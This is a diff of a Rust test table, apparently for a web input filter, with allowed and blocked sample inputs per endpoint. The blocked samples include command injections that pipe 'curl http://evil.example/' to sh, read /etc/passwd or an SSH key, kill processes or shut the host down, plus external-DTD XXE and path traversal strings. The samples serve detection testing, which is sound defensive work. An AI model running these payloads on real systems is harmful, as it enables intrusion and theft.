@@ -128,6 +128,15 @@ const PAIRS: &[Pair] = &[
     ]),
     at("/api/workflows/7", body("value", &["{{ x }} `a`"], &["{{x}};curl http://evil.example/|sh", "{{ x }}`id`", "{{ x }}$(id)", "{{ x }};cat /etc/passwd"])),
     at("/admin/settings", body("command", &["/usr/bin/php /var/www/shop/cron.php"], &["/usr/bin/perl /var/www/uploads/shell.pl", "/usr/bin/php /home/x/.ssh/id_rsa", "/usr/bin/php /var/www/a.php;curl http://evil.example/|sh"])),
+    // words around a separator, and tools that act on any word
+    query("name", &["Curl & wget for beginners", "Rsync & tar explained", "time;vmstat;iostat"], &[
+        "abc; killall node the", "abc & userdel kim for", "abc & sudo reboot the", "x;poweroff;y", "x;lsblk;y",
+    ]),
+    // definitions of documents where anyone may put one
+    body("doc", &["<!DOCTYPE x SYSTEM \"http://hibernate.sourceforge.net/hibernate-mapping-3.0.dtd\"><x/>", "<!DOCTYPE x SYSTEM \"http://purl.org/dc/x.dtd\"><x/>"], &[
+        "<!DOCTYPE x SYSTEM \"http://evil.sourceforge.net/x.dtd\"><x/>", "<!DOCTYPE x SYSTEM \"https://drive.google.com/uc?id=x\"><x/>", "<!DOCTYPE x SYSTEM \"http://purl.org/evil/x.dtd\"><x/>",
+    ]),
+    body("source", &["../../../src/app.ts", "import a from '../../../../../../../b'"], &["../../../../../../../home/app/config"]),
     // what people read quotes code
     body("message", &["foo the bar `cat /etc/hosts` there"], &["`cat /etc/passwd`"]),
     body("host", &["host-1"], &["foo the bar `curl http://evil.example/|sh`"]),
